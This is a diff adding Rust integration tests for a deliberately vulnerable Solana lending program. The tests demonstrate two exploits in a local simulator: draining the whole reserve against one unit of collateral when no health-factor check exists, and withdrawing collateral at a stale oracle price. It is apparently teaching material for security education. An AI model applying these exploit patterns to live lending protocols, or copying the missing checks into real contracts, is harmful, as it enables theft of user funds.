@@ -0,0 +1,222 @@
+// Integration tests for LEND-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/lending/lend-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::signature::{Keypair, Signer};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use utils::*;
+
+// Market plus the attacker's wallet, shared by both scenarios
+struct AttackState {
+    scenario: LendingScenario,
+    attacker: Keypair,
+}
+
+// EXPLOIT: V001 - No health factor check on borrow
+// Demonstrates: One base unit of collateral borrows the entire reserve
+struct BorrowWithoutHealthCheck;
+
+impl ExploitScenario for BorrowWithoutHealthCheck {
+    type State = AttackState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Reserve Drain - No Health Factor Check",
+            severity: Severity::Critical,
+            lesson: "Every borrow must check total debt against collateral_value * collateral_factor",
+        }
+    }
+
+    fn setup(&self) -> AttackState {
+        println!("This test demonstrates how a borrow that never compares debt to collateral");
+        println!("lets an attacker walk away with every token in the reserve.");
+        println!();
+
+        let mut scenario = setup_lending_market();
+        println!("[Setup] Market funded with {} borrow tokens", RESERVE_LIQUIDITY / ONE_TOKEN);
+
+        let attacker = create_user(&mut scenario, 1, 0);
+        let ix = build_deposit_ix(&attacker.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, 1);
+        send_ix(&mut scenario.svm, ix, &attacker).expect("Dust deposit should succeed");
+        println!("[Setup] Attacker deposited 1 base unit of collateral (worth 0.000000002 tokens)");
+
+        AttackState { scenario, attacker }
+    }
+
+    fn exploit(&self, state: &mut AttackState) -> TransactionResult {
+        let AttackState { scenario, attacker } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker borrows the entire reserve against dust collateral");
+        println!("[EXPLOIT] In secure version, this should FAIL with BorrowLimitExceeded");
+
+        // EXPLOIT: Borrow everything
+        let ix = build_borrow_ix(&attacker.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, RESERVE_LIQUIDITY);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut AttackState) -> u64 {
+        let AttackState { scenario, attacker } = state;
+
+        println!();
+        println!("[RESULT] Borrow attempt: SUCCESS");
+
+        let attacker_borrow_ata = get_associated_token_address(&attacker.pubkey(), &scenario.borrow_mint);
+        let stolen = token_balance(&scenario.svm, &attacker_borrow_ata);
+        let reserve_left = token_balance(&scenario.svm, &scenario.liquidity_vault);
+        assert_eq!(stolen, RESERVE_LIQUIDITY);
+        assert_eq!(reserve_left, 0);
+
+        let (collateral, borrowed) = get_obligation(&scenario.svm, &scenario.market, &attacker.pubkey());
+        println!("[IMPACT] Attacker received {} borrow tokens", stolen / ONE_TOKEN);
+        println!("[IMPACT] Reserve left: {}", reserve_left);
+        println!("[IMPACT] Position: {} collateral base units backing {} debt", collateral, borrowed / ONE_TOKEN);
+        println!("[IMPACT] Liquidating the position recovers at most 1 base unit of collateral");
+
+        stolen
+    }
+}
+
+#[test]
+fn test_exploit_borrow_without_health_check() {
+    run_exploit(&BorrowWithoutHealthCheck);
+}
+
+// EXPLOIT: V002 - Stale oracle price accepted
+// Demonstrates: Collateral is withdrawn against a price the market has left behind
+struct StalePriceWithdraw;
+
+const STALE_DEPOSIT: u64 = 1_000 * ONE_TOKEN;
+const STALE_BORROW: u64 = 1_000 * ONE_TOKEN;
+const STALE_WITHDRAW: u64 = 300 * ONE_TOKEN;
+
+impl ExploitScenario for StalePriceWithdraw {
+    type State = AttackState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Stale Price Withdrawal - No Price Staleness Check",
+            severity: Severity::High,
+            lesson: "Reject any oracle price older than a short maximum age before using it",
+        }
+    }
+
+    fn setup(&self) -> AttackState {
+        println!("This test demonstrates how valuing collateral at an outdated price lets a");
+        println!("borrower pull collateral out and leave the reserve holding bad debt.");
+        println!();
+
+        let mut scenario = setup_lending_market();
+        let attacker = create_user(&mut scenario, STALE_DEPOSIT, 0);
+
+        let ix = build_deposit_ix(&attacker.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, STALE_DEPOSIT);
+        send_ix(&mut scenario.svm, ix, &attacker).unwrap();
+        let ix = build_borrow_ix(&attacker.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, STALE_BORROW);
+        send_ix(&mut scenario.svm, ix, &attacker).unwrap();
+        println!("[Setup] Attacker: 1000 collateral @ 2.0 (worth 2000), 1000 debt (50% LTV)");
+
+        // The feed stops updating for a day; off-chain the collateral halves to 1.0
+        advance_time(&mut scenario.svm, 86_400);
+        println!("[Setup] 24 hours pass with no price update");
+        println!("[Setup] Off-chain, the collateral crashes to 1.0 - on-chain price is still 2.0");
+
+        AttackState { scenario, attacker }
+    }
+
+    fn exploit(&self, state: &mut AttackState) -> TransactionResult {
+        let AttackState { scenario, attacker } = state;
+
+        // At 2.0: 700 remaining * 2.0 * 75% = 1050 >= 1000 debt - passes
+        // At 1.0: 700 remaining * 1.0 = 700 < 1000 debt - position is underwater
+        println!();
+        println!("[EXPLOIT] Attacker withdraws 300 collateral, valued at the day-old price");
+        println!("[EXPLOIT] In secure version, this should FAIL with StalePrice");
+
+        let ix = build_withdraw_ix(&attacker.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, STALE_WITHDRAW);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut AttackState) -> u64 {
+        let AttackState { scenario, attacker } = state;
+
+        println!();
+        println!("[RESULT] Withdraw attempt: SUCCESS");
+
+        let (collateral, borrowed) = get_obligation(&scenario.svm, &scenario.market, &attacker.pubkey());
+        assert_eq!(collateral, STALE_DEPOSIT - STALE_WITHDRAW);
+        println!("[IMPACT] Position left: {} collateral backing {} debt", collateral / ONE_TOKEN, borrowed / ONE_TOKEN);
+
+        // Once the oracle catches up, the reserve is holding the loss
+        let ix = build_update_price_ix(&scenario.authority.pubkey(), &scenario.market, PRICE_SCALE);
+        send_ix(&mut scenario.svm, ix, &scenario.authority).unwrap();
+        let collateral_value = collateral / ONE_TOKEN;
+        let bad_debt = borrowed / ONE_TOKEN - collateral_value;
+        println!("[IMPACT] Oracle finally posts 1.0: collateral worth {}, debt {}", collateral_value, borrowed / ONE_TOKEN);
+        println!("[IMPACT] Even seizing every unit of collateral leaves {} tokens of bad debt", bad_debt);
+        println!("[IMPACT] Attacker kept 1000 borrowed tokens AND 300 collateral");
+        assert!(borrowed / ONE_TOKEN > collateral_value, "Position should be underwater at the real price");
+
+        bad_debt * ONE_TOKEN
+    }
+}
+
+#[test]
+fn test_exploit_stale_price_withdraw() {
+    run_exploit(&StalePriceWithdraw);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity test: Verify basic functionality still works
+    println!("\n================================================================================");
+    println!("SANITY TEST: Basic Operations Still Function");
+    println!("================================================================================");
+    println!("This test verifies that despite vulnerabilities, basic lending operations work.");
+    println!();
+
+    let mut scenario = setup_lending_market();
+    println!("[OK] Market initialization, reserve funding, price update");
+
+    let user = create_user(&mut scenario, 1_000 * ONE_TOKEN, 0);
+
+    let ix = build_deposit_ix(&user.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, 1_000 * ONE_TOKEN);
+    send_ix(&mut scenario.svm, ix, &user).unwrap();
+    println!("[OK] Deposit");
+
+    let ix = build_borrow_ix(&user.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, 500 * ONE_TOKEN);
+    send_ix(&mut scenario.svm, ix, &user).unwrap();
+    println!("[OK] Borrow");
+
+    let ix = build_repay_ix(&user.pubkey(), &user.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, 500 * ONE_TOKEN);
+    send_ix(&mut scenario.svm, ix, &user).unwrap();
+    println!("[OK] Repay");
+
+    let ix = build_withdraw_ix(&user.pubkey(), &scenario.collateral_mint, &scenario.borrow_mint, 1_000 * ONE_TOKEN);
+    send_ix(&mut scenario.svm, ix, &user).unwrap();
+    println!("[OK] Withdraw");
+
+    let (collateral, borrowed) = get_obligation(&scenario.svm, &scenario.market, &user.pubkey());
+    assert_eq!((collateral, borrowed), (0, 0));
+
+    println!();
+    println!("All basic operations work - the vulnerabilities are in the missing checks");
+    println!("================================================================================\n");
+}